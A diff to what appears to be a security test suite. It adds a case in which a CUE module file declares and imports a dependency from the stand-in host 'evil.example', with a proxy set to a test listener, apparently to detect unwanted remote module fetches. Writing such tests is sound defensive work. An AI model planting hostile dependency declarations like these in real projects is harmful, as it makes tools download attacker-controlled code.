@@ -11,6 +11,7 @@ interface SettingsAttack {
 	readonly file: string;
 	readonly files: (target: Target) => Files;
 	readonly base?: string;
+	readonly variables?: NonNullable<Attack["variables"]>;
 	readonly disable?: readonly string[];
 }
 
@@ -285,6 +286,17 @@ const settings: readonly SettingsAttack[] = [
 			"b/tsconfig.json": json({ compilerOptions: { composite: true, outDir: join(ws.base, "home/b") } }),
 			"b/b.ts": "export const b = 1;\n",
 			"src/a.ts": "export const a = 1;\n",
+		}),
+	},
+	{
+		title: "modules that cue.mod names, from a registry behind the person's proxy",
+		needs: ["cue"],
+		file: "a.cue",
+		variables: ({ listener }) => ({ HTTPS_PROXY: `http://${listener}`, https_proxy: `http://${listener}` }),
+		files: () => ({
+			"cue.mod/module.cue":
+				'module: "example.com/ex@v0"\nlanguage: version: "v0.9.0"\ndeps: "evil.example/evil@v1": v: "v1.0.0"\n',
+			"a.cue": 'package a\n\nimport "evil.example/evil@v1"\n\nx: evil.y\n',
 		}),
 	},
 	{
